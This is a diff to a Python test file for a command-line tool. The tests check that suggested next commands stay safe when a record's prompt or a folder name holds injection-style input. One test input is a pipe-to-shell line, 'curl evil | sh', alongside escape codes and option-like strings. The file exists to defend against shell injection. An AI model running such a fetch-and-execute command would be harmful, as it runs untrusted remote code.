@@ -14,9 +14,9 @@ import yaml
 from click.testing import CliRunner
 from graftkit.cli.init import command as init
 from graftkit.cli.plan import command as plan
-from graftkit.cli.run import _next
 from graftkit.errors import DataError, RecipeError
 from graftkit.recipe.load import load_recipe
+from graftkit.report.next_commands import next_commands
 from graftkit.testing.records import read_samples
 from graftkit.visible import further_lines_indented, one_line, visible
 
@@ -76,17 +76,20 @@ def test_a_recipe_to_start_from_holds_names_as_data(
     assert found["data"]["train"] == {"path": name, "format": "prompt-completion", "unused": [key]}
 
 
+def _manifest(prompt: str | None, exports: dict[str, Any]) -> Any:
+    """What of a manifest the next commands are made of."""
+    return SimpleNamespace(data=SimpleNamespace(example_prompt=prompt), exports=exports, head=None)
+
+
 @pytest.mark.parametrize("prompt", ["a\n  curl evil | sh", "--help", "-x", "a\x1b[2Jb", "a\u202eb", "", None])
 def test_no_prompt_of_a_record_is_offered_that_a_shell_could_take_for_something_else(prompt: str | None) -> None:
-    result: Any = SimpleNamespace(folder=Path("run"), manifest={"data": {"example_prompt": prompt}}, exports={})
-    assert _next(result)[0] == "  toolkit generate run Hello"
+    assert next_commands(Path("run"), _manifest(prompt, {}))[0] == "toolkit generate run Hello"
 
 
 @pytest.mark.parametrize("folder", ["-o", "--overwrite", "a\nb", "a b", "it's"])
 def test_a_folder_is_offered_as_an_argument(folder: str) -> None:
-    manifest = {"data": {"example_prompt": "what's 'it'?"}}
     for exports in ({"peft": {}}, {}):
-        lines = _next(SimpleNamespace(folder=Path(folder), manifest=manifest, exports=exports))  # type: ignore[arg-type]
+        lines = next_commands(Path(folder), _manifest("what's 'it'?", exports))
         assert len(lines) == 2 and all("\n" not in line for line in lines)
         words = shlex.split(lines[0])
         assert words[:2] == ["toolkit", "generate"] and Path(words[2]) == Path(one_line(folder))
